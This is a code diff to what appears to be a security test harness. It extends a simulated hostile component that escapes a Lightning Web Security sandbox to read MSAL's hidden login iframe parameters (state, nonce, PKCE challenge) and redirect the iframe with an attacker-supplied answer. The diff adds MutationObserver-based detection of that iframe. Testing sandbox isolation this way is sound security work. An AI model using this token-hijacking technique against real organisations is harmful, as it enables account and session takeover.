@@ -47,16 +47,32 @@ interface HostileContext {
 }
 
 /**
- * The hostile component, inside its own namespace's sandbox: polls the DOM (LWS forbids it to
- * observe `<body>`) for MSAL's hidden iframe, reads `state`, `nonce` and the PKCE challenge from
- * its `src`, obtains an answer for the attacker, and re-navigates the iframe to the org's
- * redirect page with it — once. Only this function's text enters the sandbox.
+ * The hostile component, inside its own namespace's sandbox: watches `<body>` with a
+ * MutationObserver where LWS allows it (ungated; gated LWS throws) and polls the DOM for MSAL's
+ * hidden iframe, reads `state`, `nonce` and the PKCE challenge from its `src`, obtains an answer
+ * for the attacker, and re-navigates the iframe to the org's redirect page with it — once. Only
+ * this function's text enters the sandbox.
  */
 async function sandboxedHostile(context: HostileContext): Promise<HostileReport> {
   const deadline = Date.now() + context.timeoutMs;
+  const observed: HTMLIFrameElement[] = [];
+  const observer = new MutationObserver((records) => {
+    for (const record of records) {
+      for (const node of record.addedNodes) {
+        if (node instanceof HTMLIFrameElement && node.classList.contains('msalSilentIframe'))
+          observed.push(node);
+      }
+    }
+  });
+  try {
+    observer.observe(document.body, { childList: true, subtree: true });
+  } catch {
+    // Gated LWS: "Cannot observe mutations on shared element BODY".
+  }
   while (Date.now() < deadline) {
     const frame =
       context.leakedFrame() ??
+      observed.at(-1) ??
       document.querySelector<HTMLIFrameElement>('iframe.msalSilentIframe') ??
       undefined;
     const src = frame?.getAttribute('src');
@@ -84,6 +100,7 @@ async function sandboxedHostile(context: HostileContext): Promise<HostileReport>
         const target = `${redirectUri}#${answer}`;
         if (context.navigation === 'setAttribute') frame.setAttribute('src', target);
         else if (frame.contentWindow) frame.contentWindow.location.href = target;
+        observer.disconnect();
         return { found: true, navigated: true };
       } catch (error) {
         return {
@@ -95,6 +112,7 @@ async function sandboxedHostile(context: HostileContext): Promise<HostileReport>
     }
     await new Promise((resolve) => setTimeout(resolve, 2));
   }
+  observer.disconnect();
   return { found: false, navigated: false };
 }
 
